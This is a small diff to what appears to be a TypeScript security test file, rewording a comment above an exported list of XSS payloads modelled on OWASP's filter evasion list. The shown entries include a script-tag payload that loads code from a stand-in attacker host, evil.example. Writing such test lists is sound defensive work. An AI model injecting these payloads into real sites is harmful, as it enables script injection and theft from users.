@@ -1,4 +1,4 @@
-/** XSS payloads for every field, modelled on OWASP's filter evasion list. */
+/** XSS payloads, tried in every field. Modelled on OWASP's filter evasion list. */
 export const xssPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
